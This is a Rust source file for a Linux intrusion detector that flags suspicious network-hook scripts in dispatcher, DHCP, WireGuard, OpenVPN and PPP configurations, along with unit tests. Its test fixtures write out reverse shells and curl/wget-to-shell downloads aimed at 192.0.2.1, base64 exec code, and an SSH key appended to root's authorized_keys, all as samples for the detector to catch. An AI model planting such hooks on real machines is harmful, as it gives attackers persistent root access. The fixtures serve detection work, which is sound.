//! Detector: a script or command that the network starts and that does something odd.

use crate::weigh;
use crate::{Card, Detector, Draft, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "network-hook",
        doc: "A script or command that runs when a network interface, tunnel or lease comes or goes does what ordinary ones do not.",
        mechanisms: &[49],
        attack: &["T1546", "T1037"],
        why: "It runs as root by itself, at every boot and whenever the network changes.",
        innocent: "you or a program you installed by hand made this script",
        next: "read the script and what it runs; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    weigh::hooks(tables, &["network hook"], "A script or command of the network", drafts);
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn debian() -> Mem {
        let mut host = Mem::new().file(
            "/var/lib/dpkg/info/ifupdown.list",
            "/.\n/etc/network/if-up.d/chrony\n/etc/dhcp/dhclient-exit-hooks.d/debug\n/usr/lib/NetworkManager/dispatcher.d/20-chrony\n/etc/ppp/ip-up\n",
        );
        for (path, text) in [
            (
                "/etc/network/if-up.d/chrony",
                "#!/bin/sh\nset -e\nif [ -x /usr/bin/chronyc ]; then\n  /usr/bin/chronyc onoffline > /dev/null 2>&1\nfi\nexit 0\n",
            ),
            (
                "/etc/dhcp/dhclient-exit-hooks.d/debug",
                "RUN=\"no\"\nif [ \"$RUN\" = \"yes\" ]; then\n    echo \"$(date): entering ${1%/*}\" >> /tmp/dhclient-script.debug\nfi\n",
            ),
            ("/usr/lib/NetworkManager/dispatcher.d/20-chrony", "#!/bin/sh\nexit\n"),
            (
                "/etc/ppp/ip-up",
                "#!/bin/sh\nPATH=/sbin:/bin\nexport PATH\nrun-parts /etc/ppp/ip-up.d --arg=\"$1\"\n",
            ),
        ] {
            host = host.file(path, text).owned(path, 0o755, 0, 0);
        }
        host
    }

    #[test]
    fn odd_scripts_and_commands_are_found_in_every_place() {
        for (path, text) in [
            ("/etc/NetworkManager/dispatcher.d/90-sync", "#!/bin/sh\n/dev/shm/.s &\n"),
            (
                "/etc/NetworkManager/dispatcher.d/pre-up.d/a",
                "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
            ),
            ("/usr/lib/NetworkManager/dispatcher.d/30-wwan", "#!/bin/sh\nexit 0\n"),
            ("/etc/network/if-up.d/zz-route", "#!/bin/sh\ncurl -s http://192.0.2.1/a | sh\n"),
            ("/etc/network/if-post-down.d/b", "\x7fELF\x02"),
            ("/etc/network/if-up.d/chrony", "#!/bin/sh\n/var/tmp/c\nexit 0\n"),
            ("/etc/dhcp/dhclient-exit-hooks.d/debug", "RUN=no\nnohup /tmp/.d >/dev/null 2>&1 &\n"),
            ("/etc/dhcp/dhclient-enter-hooks.d/q", "wget -qO- http://192.0.2.1/q | bash\n"),
            ("/etc/dhclient.conf", "timeout 5;\nscript \"/dev/shm/s\";\n"),
            (
                "/etc/networkd-dispatcher/routable.d/9",
                "#!/usr/bin/python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            ),
            ("/etc/ppp/ip-up.d/0x", "#!/bin/sh\necho 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys\n"),
            ("/etc/network/interfaces", "auto eth0\niface eth0 inet dhcp\n  post-up /var/tmp/x &\n"),
            (
                "/etc/network/interfaces.d/e",
                "iface e0 inet manual\n up bash -c 'exec bash -i &>/dev/tcp/192.0.2.1/1 <&1'\n",
            ),
            ("/etc/wireguard/wg0.conf", "[Interface]\nPostUp = curl -s http://192.0.2.1/a | sh\n"),
            ("/etc/openvpn/server/s.conf", "dev tun\nscript-security 2\nclient-connect /dev/shm/c\n"),
            ("/usr/lib/dhcpcd/dhcpcd-hooks/99-z", "true\n"),
        ] {
            let host = debian().file(path, text).owned(path, 0o755, 0, 0);
            let host = if path.contains("interfaces.d") {
                host.file("/etc/network/interfaces", "source interfaces.d/*\n")
            } else {
                host
            };
            let seen = check(host);
            let found = seen.alarms("network-hook");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn scripts_that_others_may_change_are_found() {
        let path = "/etc/network/if-up.d/route";
        let seen = check(debian().file(path, "#!/bin/sh\nexit 0\n").owned(path, 0o777, 0, 0));
        assert_eq!(seen.alarms("network-hook").len(), 1);
    }

    #[test]
    fn packages_and_administrators_scripts_are_no_alarm() {
        let seen = check(
            debian()
                .file("/etc/NetworkManager/dispatcher.d/70-wifi-off", "#!/bin/sh\ncase \"$2\" in up) nmcli radio wifi off;; down) nmcli radio wifi on;; esac\n")
                .owned("/etc/NetworkManager/dispatcher.d/70-wifi-off", 0o755, 0, 0)
                .file("/etc/network/if-up.d/routes", "#!/bin/sh\n[ \"$IFACE\" = eth1 ] || exit 0\nip route add 192.0.2.0/24 via 198.51.100.1 dev eth1\nethtool -K eth1 tso off\n")
                .owned("/etc/network/if-up.d/routes", 0o755, 0, 0)
                .file("/etc/network/interfaces", "source /etc/network/interfaces.d/*\nauto lo\niface lo inet loopback\niface eth0 inet static\n  address 192.0.2.5/24\n  up ip route add 203.0.113.0/24 via 192.0.2.1 || true\n  pre-up iptables-restore < /etc/iptables/rules.v4\n  down iptables-save > /etc/iptables/rules.v4\n")
                .file("/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = x\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE; sysctl -w net.ipv4.ip_forward=1\nPostDown = iptables -D FORWARD -i %i -j ACCEPT\n")
                .file("/etc/openvpn/update-resolv-conf", "#!/bin/bash\n[ -x /sbin/resolvconf ] || exit 0\n")
                .owned("/etc/openvpn/update-resolv-conf", 0o755, 0, 0)
                .file("/etc/openvpn/c.conf", "up /etc/openvpn/update-resolv-conf\ndown /etc/openvpn/update-resolv-conf\n"),
        );
        assert!(seen.by("network-hook").is_empty(), "{:#?}", seen.findings);
    }
}
